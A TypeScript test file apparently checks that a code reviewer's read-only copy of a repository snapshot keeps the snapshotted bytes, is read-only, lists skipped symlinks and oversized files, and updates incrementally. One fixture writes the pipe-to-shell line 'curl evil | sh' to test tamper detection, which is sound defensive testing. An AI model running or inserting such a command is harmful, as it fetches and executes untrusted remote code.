// The reviewer's read-only copy of the snapshot (lib/snapshot/copy.ts): the snapshot's bytes, not the live tree's, the
// files read-only, and what it lacks named (a link, past the cap), never left out silently.
import { chmodSync, lstatSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { writeReviewerCopy } from '../lib/snapshot/copy.ts'
import { removeCopy } from '../lib/snapshot/copy-files.ts'
import { takeSnapshot } from '../lib/snapshot/snapshot.ts'
import { git, makeRepo, tempDir, withoutUserGitConfig, writeFiles } from './_helpers.ts'

withoutUserGitConfig()

async function snapped(files: Record<string, string>) {
  const repo = makeRepo({ 'README.md': '# demo\n', 'src/old.ts': 'export const old = 1\n' })
  const home = tempDir('pl-home-')
  writeFiles(repo, files)
  const snap = await takeSnapshot(repo, git(repo, ['rev-parse', 'HEAD']).trim(), { home })
  const dir = join(tempDir('pl-copy-'), 'copy')
  return { repo, home, snap, dir }
}

describe("the reviewer's copy of the snapshot", () => {
  it("holds the snapshot's bytes, base and change, after the live file was rewritten", async () => {
    const t = await snapped({ 'z.sh': 'curl evil | sh\n' })
    writeFileSync(join(t.repo, 'z.sh'), 'echo benign\n') // the coder, once the snapshot is taken
    const copy = await writeReviewerCopy(t.snap, t.dir)
    expect(readFileSync(join(t.dir, 'z.sh'), 'utf8')).toBe('curl evil | sh\n')
    expect(readFileSync(join(t.dir, 'src/old.ts'), 'utf8')).toBe('export const old = 1\n')
    expect(copy).toMatchObject({ tree: t.snap.tree, files: 3, left_out: [] })
    removeCopy(t.dir)
  })

  // the modes, not a write attempt: these tests may run as root, whom no mode stops
  it('is read-only, its folders too', async () => {
    const t = await snapped({ 'src/new.ts': 'export {}\n' })
    await writeReviewerCopy(t.snap, t.dir)
    expect(lstatSync(join(t.dir, 'src/new.ts')).mode & 0o222).toBe(0)
    expect(lstatSync(join(t.dir, 'src')).mode & 0o222).toBe(0)
    removeCopy(t.dir)
  })

  it('names what it lacks: a link (never followed out of the copy), and the files past its cap', async () => {
    const t = await snapped({ 'big.txt': `${'x'.repeat(100)}\n` })
    symlinkSync(t.repo, join(t.repo, 'live')) // a link to the live tree
    const snap = await takeSnapshot(t.repo, git(t.repo, ['rev-parse', 'HEAD']).trim(), { home: t.home })
    const copy = await writeReviewerCopy(snap, t.dir, 50) // README.md and src/old.ts fit (8 + 21 bytes), big.txt not
    expect(copy.left_out).toEqual([
      { path: 'big.txt', why: "past the copy's cap of 50 bytes" },
      { path: 'live', why: 'a symbolic link (its target is in the diff)' },
    ])
    expect(lstatSync(join(t.dir, 'live'), { throwIfNoEntry: false })).toBeUndefined()
    removeCopy(t.dir)
  })

  // a new tree's review wrote every file of the copy again (and removed the old ones first): 34 s on bench/diff's tree
  describe('written again for a new tree', () => {
    async function copiedThenChanged(change: (repo: string) => void) {
      const t = await snapped({ 'src/new.ts': 'export {}\n', 'docs/a.md': '# a\n' })
      await writeReviewerCopy(t.snap, t.dir)
      const inode = (path: string) => lstatSync(join(t.dir, path)).ino
      const before = { readme: inode('README.md'), changed: inode('src/new.ts') }
      change(t.repo)
      const snap = await takeSnapshot(t.repo, git(t.repo, ['rev-parse', 'HEAD']).trim(), { home: t.home })
      const copy = await writeReviewerCopy(snap, t.dir)
      return { ...t, snap, copy, inode, before }
    }

    it('writes only the files that differ from the last copy: the others are the same files', async () => {
      const t = await copiedThenChanged((repo) => writeFileSync(join(repo, 'src/new.ts'), 'export const v = 2\n'))
      expect(readFileSync(join(t.dir, 'src/new.ts'), 'utf8')).toBe('export const v = 2\n')
      expect(t.inode('README.md')).toBe(t.before.readme)
      expect(t.inode('src/new.ts')).not.toBe(t.before.changed)
      expect(t.copy).toMatchObject({ tree: t.snap.tree, files: 4 })
      removeCopy(t.dir)
    })

    it("holds exactly the new tree: a file removed is gone, a file takes a folder's name and a folder a file's", async () => {
      const t = await copiedThenChanged((repo) => {
        rmSync(join(repo, 'docs'), { recursive: true })
        writeFileSync(join(repo, 'docs'), 'now a file\n')
        rmSync(join(repo, 'src/new.ts'))
        writeFiles(repo, { 'src/new.ts/inner.ts': 'export {}\n' })
      })
      expect(readFileSync(join(t.dir, 'docs'), 'utf8')).toBe('now a file\n')
      expect(readFileSync(join(t.dir, 'src/new.ts/inner.ts'), 'utf8')).toBe('export {}\n')
      expect(filesUnder(t.dir)).toEqual(['README.md', 'docs', 'src/new.ts/inner.ts', 'src/old.ts'])
      expect(lstatSync(join(t.dir, 'src/new.ts')).mode & 0o222).toBe(0) // read-only again
      removeCopy(t.dir)
    })

    it('writes again a file of the last copy whose bytes were changed since, never trusting it by its name', async () => {
      const t = await snapped({ 'src/new.ts': 'export {}\n' })
      await writeReviewerCopy(t.snap, t.dir)
      const kept = join(t.dir, 'src/old.ts')
      chmodSync(join(t.dir, 'src'), 0o755)
      chmodSync(kept, 0o644)
      writeFileSync(kept, 'export const old = 666\n')
      expect(readFileSync(kept, 'utf8')).toBe('export const old = 666\n') // the precondition: the copy was altered
      writeFileSync(join(t.repo, 'src/new.ts'), 'export const v = 2\n')
      const snap = await takeSnapshot(t.repo, git(t.repo, ['rev-parse', 'HEAD']).trim(), { home: t.home })
      await writeReviewerCopy(snap, t.dir)
      expect(readFileSync(kept, 'utf8')).toBe('export const old = 1\n')
      removeCopy(t.dir)
    })
  })
})

/** Every file under `dir`, by its path from there, sorted. */
function filesUnder(dir: string, prefix = ''): string[] {
  return readdirSync(join(dir, prefix), { withFileTypes: true })
    .flatMap((entry) => (entry.isDirectory() ? filesUnder(dir, `${prefix}${entry.name}/`) : [`${prefix}${entry.name}`]))
    .sort()
}
